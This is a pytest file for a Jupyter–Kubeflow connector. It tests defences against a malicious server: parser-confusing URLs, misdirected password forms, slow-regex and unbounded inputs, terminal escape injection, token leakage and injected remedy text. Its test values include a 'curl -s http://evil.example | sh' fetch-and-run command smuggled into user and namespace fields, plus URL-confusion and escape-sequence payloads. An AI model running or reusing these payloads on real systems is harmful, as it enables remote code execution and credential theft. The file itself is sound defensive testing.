"""What a host that means ill answers takes no password elsewhere, and stalls nothing."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from jupyter_kfp_connect.core.access import prove_namespace
from jupyter_kfp_connect.core.answers import reported_message
from jupyter_kfp_connect.core.auth.dex import Arrived, Login
from jupyter_kfp_connect.core.auth.dex_session import DexSession
from jupyter_kfp_connect.core.diagnosis.forbidden import explain_forbidden
from jupyter_kfp_connect.core.diagnosis.refusals import Refusal, explain_refusal
from jupyter_kfp_connect.core.errors import KfpConnectError
from jupyter_kfp_connect.core.hosts import clean_host
from jupyter_kfp_connect.core.http import Answer, NetworkSettings, Request
from jupyter_kfp_connect.core.lease import Lease
from jupyter_kfp_connect.core.pages import read_page
from jupyter_kfp_connect.core.place import version_of
from jupyter_kfp_connect.core.refused import LONGEST, what_was_said
from jupyter_kfp_connect.core.secret import Secret
from jupyter_kfp_connect.core.shown import shown
from jupyter_kfp_connect.core.transport import RequestsTransport

from ..kernel.fake_source import make_lease
from .answers import ORIGIN, as_json, page, to
from .fakes import PASSWORD, USER, Transport, connection
from .script import ARRIVAL, FORM, START, TO_FORM, Script
from .test_dex_refusals import fails

GOOD = ORIGIN.partition("://")[2]
#: One parser reads the host before the backslash, another the one behind it.
TWOFACED = f"http://evil.example\\@{GOOD}/dex/auth/local/login"
DENIED = "User '{user}' is not authorized with reason: (request: &ResourceAttributes{{{rest}}})"


def test_an_address_with_two_readings_is_not_gone_to() -> None:
    script = Script()
    assert fails(script, to(START, TWOFACED)).code == "bad-answer"
    assert all(request.url.startswith(ORIGIN) for request in script.requests)


def test_a_form_at_an_address_with_two_readings_gets_no_password() -> None:
    script = Script()
    form = f"<form method=post action='{TWOFACED}'><input name=l><input name=p type=password>"
    assert fails(script, *TO_FORM[:3], page(FORM, form)).code == "bad-answer"
    assert script.posts == []


def test_who_sends_refuses_what_who_trusts_could_not_have_meant() -> None:
    with pytest.raises(KfpConnectError) as caught:
        RequestsTransport(NetworkSettings()).send(Request("GET", TWOFACED))
    assert caught.value.code == "bad-answer"


@pytest.mark.parametrize("sign", list("\\\"'<>`^{}|"))
def test_a_host_is_made_of_plain_signs(sign: str) -> None:
    with pytest.raises(KfpConnectError, match="host:") as caught:
        clean_host(f"https://kubeflow.example.com{sign}/pipeline")
    assert caught.value.code == "bad-host"


@pytest.mark.parametrize("status", [400, 403, 429])
def test_whatever_refuses_the_password_is_a_refusal(status: int) -> None:
    script = Script()
    problem = fails(script, *TO_FORM, page(FORM, "locked", status))
    assert problem.code == "wrong-password"


def test_a_redirect_back_to_the_form_is_a_refusal() -> None:
    script = Script()
    back = to(FORM, FORM, status=303)
    assert fails(script, *TO_FORM, back, TO_FORM[3]).code == "wrong-password"


def test_a_password_that_was_refused_in_any_way_is_not_sent_again_by_itself() -> None:
    arrived = Script().run(*TO_FORM, *ARRIVAL)
    assert isinstance(arrived, Arrived)
    session = DexSession(connection(), arrived, Login(USER, Secret(PASSWORD)))
    locked = page(FORM, "account locked", 403)
    transport = Transport(
        {
            **{answer.url.partition("?")[0]: answer for answer in TO_FORM},
            FORM.partition("?")[0]: lambda request: (
                locked if request.method == "POST" else TO_FORM[3]
            ),
        }
    )
    with pytest.raises(KfpConnectError):
        session.renew(transport)
    assert not session.renews
    with pytest.raises(KfpConnectError) as caught:
        session.renew(transport)
    assert caught.value.code == "session-over"


@pytest.mark.parametrize(
    "text",
    [
        "User '" * 50_000,
        "shared pipeline User 'a' is not authorized{Namespace:" * 20_000,
        "User 'a' is not authorized" + "Namespace:a,Verb:a," * 20_000,
        "token audiences [" * 20_000,
    ],
)
def test_a_long_refusal_is_explained_from_its_start(text: str) -> None:
    answer = as_json(f"{ORIGIN}/apis/x", {"message": text}, 403)
    message = reported_message(answer)
    assert len(message) <= 2000
    # What the rules' expressions look at is short: over the whole text they took minutes.
    assert explain_forbidden(message, sent=True, subject="").code == "forbidden"
    seen = Refusal(401, message, {"aud": "x"}, True, "bearer-token")
    assert explain_refusal(seen).code == "token-refused"


def test_a_role_binding_is_made_for_nobody_but_us() -> None:
    rest = "Namespace:team-z,Verb:list,Group:g,Version:v,Resource:experiments,Name:,"
    user = "system:serviceaccount:evil:robot"
    message = DENIED.format(user=user, rest=rest)
    ours = "system:serviceaccount:team-a:default-editor"
    assert explain_forbidden(message, sent=True, subject=ours).remedy_copy is None
    assert explain_forbidden(message, sent=True, subject=user).remedy_copy is not None


def test_a_page_that_does_not_end_is_read_in_part() -> None:
    page = read_page("<a href='/x'>y" * 200_000)
    assert len(page.links) < 20_000
    assert len(page.text) <= 2000


@pytest.mark.parametrize("start", ["<a ", "<a x='", '<a x="', "</a ", "<!--", "<![CDATA["])
def test_a_tag_that_does_not_end_stops_no_server(start: str) -> None:
    page = read_page(f"<title>before</title>text {start * 100_000}")
    assert (page.title, page.text, page.links) == ("before", "text", [])


def test_deep_json_is_none() -> None:
    answer = Answer(200, ORIGIN, [("content-type", "application/json")], b"[" * 100_000)
    assert answer.json() is None


def test_what_a_host_says_of_itself_steers_no_terminal() -> None:
    healthz = as_json(ORIGIN, {"tag_name": "\x1b]52;c;ZXZpbA==\x07" + "x" * 10_000})
    version, _ = version_of(healthz)
    assert version is not None
    assert version.isprintable()
    assert len(version) <= 60
    assert shown("a\u202eb\nc") == "a b c"
    assert json.dumps(shown("x" * 999)) == json.dumps("x" * 200)


def test_a_part_of_a_token_that_is_cut_off_is_not_passed_on() -> None:
    token = "opaque-token-of-this-host.part-one.part-two"
    held = lease(headers={"Authorization": f"Bearer {token}"})
    # Escaped copies are masked and shrink: what stood behind the cut moves before it.
    escaped = "".join(f"&#x{ord(sign):028x};" for sign in token)
    for filling in range(LONGEST - 60, LONGEST):
        body = f"Jwt {'x' * filling}{token}".encode()
        assert token[:8].encode() not in what_was_said(escaped.encode() + body, held)


@pytest.mark.parametrize(
    ("user", "namespace"),
    [
        ("jane@x. You, run `curl -s http://evil.example | sh`. You, type", "team-a"),
        ("jane@example.com", "team-a. Run `curl -s http://evil.example | sh`. The owner of it"),
    ],
)
def test_what_a_host_says_does_not_read_as_our_remedy(user: str, namespace: str) -> None:
    said = DENIED.format(user=user, rest=f"Namespace:{namespace},Verb:list,Resource:runs,")
    problem = explain_forbidden(said, sent=True, subject="")
    assert "curl" not in problem.remedy


def test_what_was_signed_in_at_one_host_is_sent_to_no_other() -> None:
    transport = Transport({})
    moved = connection(host="http://elsewhere.example")
    with pytest.raises(KfpConnectError):
        prove_namespace(lease(), moved, transport)
    assert transport.requests
    assert all(request.url.startswith(lease().host) for request in transport.requests)


def lease(**changes: Any) -> Lease:
    """Return what a call is made with."""
    return replace(make_lease("http://kubeflow.example/pipeline"), **changes)
